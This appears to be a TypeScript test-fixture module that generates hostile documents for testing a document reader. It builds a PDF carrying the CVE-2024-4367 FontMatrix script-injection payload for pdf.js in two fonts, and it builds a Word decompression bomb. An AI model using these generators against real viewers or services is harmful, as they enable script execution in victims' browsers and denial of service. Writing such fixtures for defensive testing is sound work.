/**
 * Hostile source files written byte by byte at test time, with no producer installed: a PDF whose
 * font dictionaries carry script in their FontMatrix, and Word packages small on disk but huge
 * once inflated. Every text comes from the caller.
 */
import JSZip from 'jszip';

/** A PDF of the given objects (numbered from 1, the first being the catalog), with an exact xref table. */
export function pdfOf(objects: string[]): Uint8Array {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  out += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

/**
 * The pattern of CVE-2024-4367: pdf.js before 4.2.67 pasted a font's FontMatrix entries into the
 * source of the glyph-drawing function it compiled with `new Function`, so a string entry that
 * closes the call runs as script. Here every font on the page carries `script` that way: a Type1
 * font (as in the published proof of concept) and a Type3 font, whose FontMatrix text extraction
 * reads for glyph widths. `sentence` is drawn in the Type1 font and a letter in the Type3 font, so
 * text that comes out shows the reader went through both fonts.
 */
export function fontMatrixScriptPdf(sentence: string, script: string): Uint8Array {
  // "1); <script> //" closes `c.transform(1, 2, 3, 4, 5, ` and comments out the rest of the line.
  const payload = `(1\\); ${script.replace(/[()\\]/g, '\\$&')} //)`;
  const glyph = '1000 0 0 0 1000 1000 d1';
  const content = `BT /F1 12 Tf 72 720 Td (${sentence.replace(/[()\\]/g, '\\$&')}) Tj ET\nBT /F2 12 Tf 72 700 Td (a) Tj ET`;
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> /Contents 4 0 R >>',
    `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /FontMatrix [1 2 3 4 5 ${payload}] >>`,
    `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 ${payload}] /Resources << >>` +
      ' /Encoding << /Type /Encoding /Differences [97 /a] >> /CharProcs << /a 7 0 R >> /FirstChar 97 /LastChar 97 /Widths [1000] >>',
    `<< /Length ${glyph.length} >>\nstream\n${glyph}\nendstream`,
  ]);
}

const DOCUMENT_HEAD =
  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>';
const DOCUMENT_TAIL = '</w:t></w:r></w:p></w:body></w:document>';

/** The three parts a Word reader needs, the text in one paragraph. */
export async function minimalDocx(text: string): Promise<Uint8Array> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  zip.file(
    '_rels/.rels',
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
  );
  zip.file('word/document.xml', DOCUMENT_HEAD + text + DOCUMENT_TAIL);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

/** A Word package whose one paragraph inflates to `inflatedBytes` of spaces: about a thousandth of that on disk. */
export function docxBomb(inflatedBytes: number): Promise<Uint8Array> {
  return minimalDocx(' '.repeat(Math.max(0, inflatedBytes - DOCUMENT_HEAD.length - DOCUMENT_TAIL.length)));
}
